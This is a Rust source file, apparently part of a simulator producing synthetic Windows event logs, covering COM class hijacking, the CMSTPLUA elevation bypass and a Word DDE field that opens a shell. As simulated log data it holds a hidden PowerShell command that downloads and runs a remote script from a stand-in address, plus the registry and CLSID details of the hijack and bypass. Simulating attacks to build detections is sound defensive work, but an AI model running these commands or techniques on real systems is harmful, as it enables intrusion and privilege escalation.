//! Local COM and DDE: a hijacked class, an elevated class, a document's DDE field.

use super::super::events::Library;
use super::super::machine::{Integrity, Machine};
use super::super::programs;
use crate::clock::{MILLI, MINUTE, SECOND};
use crate::plan::Episode;
use crate::random::Random;
use std::sync::Arc;

impl Machine {
    /// A class is registered in the user's registry; Explorer loads its library.
    pub(crate) fn com_hijack(&mut self, at: i64, episode: &Episode) {
        const CLASSES: [&str; 4] = [
            "{BCDE0395-E52F-467C-8E3D-C4579291692E}",
            "{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}",
            "{42AEDC87-2188-41FD-B9A3-0C966FEABEC1}",
            "{0A29FF9E-7F9C-4437-8B11-F424491E3931}",
        ];
        let mut random = Random::new(episode.shared.seed, &[1]);
        let (logon, explorer, integrity) = self.foothold();
        let account = Arc::clone(&logon.account);
        let library = format!(r"C:\Users\{}\AppData\Roaming\{}.dll", account.name, episode.shared.word.to_lowercase());
        let class = *random.pick(&CLASSES);
        let implant = self.run(at, 2 * MINUTE, &explorer, &programs::IMPLANT, "\"{image}\"", &logon, integrity);
        self.create_file(at + 2 * SECOND, &implant, library.clone());
        let key = format!(r"HKU\{}_Classes\CLSID\{class}\InprocServer32", account.sid);
        self.set_value(at + 3 * SECOND, &implant, format!(r"{key}\(Default)"), library.clone());
        self.set_value(at + 3 * SECOND + 5 * MILLI, &implant, format!(r"{key}\ThreadingModel"), "Both");
        let loaded = Library { path: &library, original: "-", description: "-", company: "-", signed: false };
        let when = at + random.between(30 * SECOND, 4 * MINUTE);
        self.load(when, &explorer, &loaded);
    }

    /// The COM surrogate of CMSTPLUA starts an elevated shell without a consent prompt.
    pub(crate) fn cmstplua(&mut self, at: i64) {
        let (logon, parent, integrity) = self.foothold();
        self.run(at, MINUTE, &parent, &programs::IMPLANT, "\"{image}\"", &logon, integrity);
        let account = Arc::clone(&logon.account);
        let elevated = self.new_logon(&account, logon.session, 2);
        self.log_on(at + 300 * MILLI, &elevated, None, true);
        self.log_off(at + 3 * MINUTE, &elevated);
        let launcher = self.resident("dcomlaunch");
        let command = "C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}";
        let high = Integrity::High;
        let surrogate = self.run(at + 500 * MILLI, MINUTE, &launcher, &programs::DLLHOST, command, &elevated, high);
        let shell = self.run(at + 900 * MILLI, 2 * MINUTE, &surrogate, &programs::CMD, "\"{image}\"", &elevated, high);
        self.console(at + 900 * MILLI, 2 * MINUTE, &shell);
        self.look_around(at + 10 * SECOND, &shell);
    }

    /// A document's DDE field starts a shell.
    pub(crate) fn dde(&mut self, at: i64, episode: &Episode) {
        let (logon, explorer, integrity) = self.foothold();
        let user = Arc::clone(&logon.account.name);
        let outlook = self.session.as_ref().and_then(|session| session.apps.get("outlook")).map(Arc::clone);
        let parent = outlook.unwrap_or(explorer);
        let document = format!(
            r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{}\invoice.docx",
            episode.shared.word.to_uppercase()
        );
        self.create_file(at - SECOND, &parent, document.clone());
        let command = format!("\"{{image}}\" /n \"{document}\" /o \"\"");
        let word = self.run(at, 4 * MINUTE, &parent, &programs::WORD, &command, &logon, integrity);
        let command = format!(
            "{{image}} /k powershell -NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://203.0.113.66/{}');powershell -e $e",
            episode.shared.word
        );
        let shell = self.run(at + 9 * SECOND, 2 * MINUTE, &word, &programs::CMD, &command, &logon, integrity);
        self.console(at + 9 * SECOND, 2 * MINUTE, &shell);
        let command = format!(
            "powershell  -NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://203.0.113.66/{}');powershell -e $e",
            episode.shared.word
        );
        self.powershell(at + 9500 * MILLI, MINUTE, &shell, &command, &logon, integrity);
    }
}
